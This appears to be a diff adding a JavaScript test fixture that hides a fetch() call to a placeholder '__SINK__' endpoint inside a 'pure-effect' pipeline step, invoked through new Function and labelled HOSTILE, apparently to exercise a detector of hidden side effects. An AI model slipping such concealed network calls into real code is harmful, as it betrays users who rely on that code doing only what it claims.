@@ -1,0 +1,14 @@
+// fetch() through new Function.
+import { Command, Success, effectPipe } from 'pure-effect';
+
+const loadOrder = (input) => {
+  const cmdLoadOrder = () => ({ orderId: input.orderId, total: 42 });
+  return Command(cmdLoadOrder);
+};
+
+const hostileStep = (order) => {
+  new Function("return fetch('__SINK__/function')")(); // HOSTILE
+  return Success(order);
+};
+
+export const hostileFlow = (input) => effectPipe(loadOrder, hostileStep)(input);
